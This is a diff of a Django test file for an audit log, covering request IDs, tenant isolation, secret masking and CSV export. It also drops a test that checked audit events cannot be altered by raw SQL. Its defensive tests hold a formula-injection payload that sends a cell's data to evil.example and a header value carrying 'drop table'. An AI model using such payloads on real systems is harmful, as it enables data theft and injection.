@@ -5,8 +5,7 @@ import io
 import json
 
 import pytest
-from django.db import connection, transaction
-from django.db.utils import DatabaseError
+from django.db import transaction
 
 from audit.context import ActorKind
 from audit.models import AuditEvent
@@ -14,16 +13,6 @@ from audit.services import record
 from tests.conftest import cluster_data
 
 pytestmark = pytest.mark.django_db
-
-
-def test_raw_sql_update_and_delete_on_audit_events_fail(world):
-    event = AuditEvent.objects.first()
-    for statement in ("UPDATE audit_auditevent SET action = 'forged' WHERE id = %s",
-                      "DELETE FROM audit_auditevent WHERE id = %s"):  # fmt: skip
-        with pytest.raises(DatabaseError, match="append-only"), transaction.atomic(), connection.cursor() as c:
-            c.execute(statement, [event.pk])
-    event.refresh_from_db()
-    assert event.action != "forged"
 
 
 @pytest.mark.django_db(transaction=True)
@@ -37,23 +26,44 @@ def test_api_changes_carry_actor_request_id_source_and_before_after(world, clien
     body = json.dumps(cluster_data(tenant=world.tenant_a.pk))
     response = client.post("/api/v1/clusters/", body, content_type="application/json",
                            headers={"X-Request-ID": "req-abc-12345"}, REMOTE_ADDR="192.0.2.7")  # fmt: skip
-    assert response.status_code == 201 and response["X-Request-ID"] == "req-abc-12345"
+    assert response.status_code == 201 and response["X-Client-Request-ID"] == "req-abc-12345"
+    server_id = response["X-Request-ID"]
+    assert server_id != "req-abc-12345" and len(server_id) == 32
     pk = response.json()["id"]
     client.post(f"/api/v1/clusters/{pk}/submit/", headers={"X-Request-ID": "req-def-67890"})
     created = AuditEvent.objects.get(action="cluster.create", object_id=str(pk))
     actor = (created.actor_kind, created.actor_label, created.actor_id)
     assert actor == (ActorKind.USER, "member-a", world.member_a.pk)
-    assert created.request_id == "req-abc-12345" and created.source_ip == "192.0.2.7"
+    assert created.request_id == server_id and created.client_request_id == "req-abc-12345"
+    assert created.source_ip == "192.0.2.7"
     assert created.before is None and created.after["state"] == "draft"
     submitted = AuditEvent.objects.get(action="cluster.submit", object_id=str(pk))
     assert submitted.before["state"] == "draft" and submitted.after["state"] == "submitted"
-    assert submitted.request_id == "req-def-67890" and submitted.tenant_id == world.tenant_a.pk
+    assert submitted.client_request_id == "req-def-67890" and submitted.tenant_id == world.tenant_a.pk
+    assert submitted.request_id not in (server_id, "req-def-67890")
 
 
-def test_a_malformed_request_id_is_replaced(world, client):
+def test_a_malformed_request_id_is_dropped(world, client):
     client.force_login(world.member_a)
     response = client.get("/api/v1/clusters/", headers={"X-Request-ID": "bad id; drop table"})
     assert response["X-Request-ID"] != "bad id; drop table" and len(response["X-Request-ID"]) == 32
+    assert "X-Client-Request-ID" not in response
+
+
+def test_a_client_cannot_make_its_request_share_another_requests_server_id(world, client):
+    client.force_login(world.owner_a)
+    first = client.post(f"/api/v1/clusters/{_draft(world).pk}/submit/")
+    stolen = first["X-Request-ID"]
+    second = client.get("/api/v1/clusters/", headers={"X-Request-ID": stolen})
+    assert second["X-Request-ID"] != stolen and second["X-Client-Request-ID"] == stolen
+    assert AuditEvent.objects.filter(request_id=stolen).count() == 1
+
+
+def _draft(world):
+    from tenants import services
+    from tests.conftest import service_data
+
+    return services.create_cluster(world.tenant_a, world.owner_a, service_data())
 
 
 def test_tenant_members_see_only_their_tenants_events(world, api):
@@ -84,3 +94,19 @@ def test_secrets_never_reach_the_audit_log(world, api):
     api(world.owner_a).post("/api/v1/tokens/", {"name": "ci"}, format="json")
     event = AuditEvent.objects.get(action="token.create")
     assert event.after["token_hash"] == "********"
+
+
+@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_export_neutralises_formulas(world, api, prefix):
+    from tenants import services
+    from tests.conftest import service_data
+
+    payload = prefix + 'HYPERLINK("http://evil.example/?"&A1,"click")'
+    services.create_cluster(world.tenant_a, world.owner_a, service_data(justification=payload, name="x-1"))
+    with transaction.atomic():
+        record("tenant.note", world.tenant_a, message=payload, tenant=world.tenant_a)
+    body = b"".join(api(world.admin).get("/api/v1/audit-events/export/?action=tenant.note").streaming_content)
+    rows = list(csv.DictReader(io.StringIO(body.decode(), newline="")))
+    assert rows[0]["message"] == "'" + payload
+    for row in rows:
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values() if cell)
